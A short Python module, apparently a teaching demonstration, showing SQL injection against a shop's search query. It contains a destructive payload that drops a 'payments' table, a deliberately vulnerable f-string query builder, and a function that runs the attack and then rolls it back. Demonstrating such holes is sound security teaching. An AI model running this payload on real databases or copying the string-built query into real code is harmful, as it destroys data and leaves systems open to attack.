"""A query that the shop's application builds by gluing text together, and what an attacker makes of it."""

from __future__ import annotations

from dataclasses import dataclass

import psycopg

TERM = "kettle'; DROP TABLE payments CASCADE; --"


@dataclass(frozen=True)
class Outcome:
    """What came of the attack."""

    sql: str
    """What reached the server."""
    dropped: bool
    answer: str
    """What the server said."""


def search_sql(term: str) -> str:
    """The shop's search, with the customer's words in it as they came. This is the mistake."""
    return f"SELECT sku, name, price FROM available WHERE name LIKE '%{term}%'"  # noqa: S608


def attack(conninfo: str) -> Outcome:
    """Search for what the attacker typed, look whether the table is gone, and take everything back."""
    sql = search_sql(TERM)
    with psycopg.connect(conninfo, application_name="shop application") as conn:
        try:
            conn.execute("SET LOCAL lock_timeout = '200ms'")  # nobody is to wait for this
            conn.execute(sql.encode())
            gone = conn.execute("SELECT to_regclass('payments') IS NULL").fetchone() == (True,)
            return Outcome(sql, gone, "DROP TABLE" if gone else "the table is still there")
        except psycopg.errors.InsufficientPrivilege as error:
            return Outcome(sql, dropped=False, answer=f"ERROR: {error.diag.message_primary}")
        finally:
            conn.rollback()
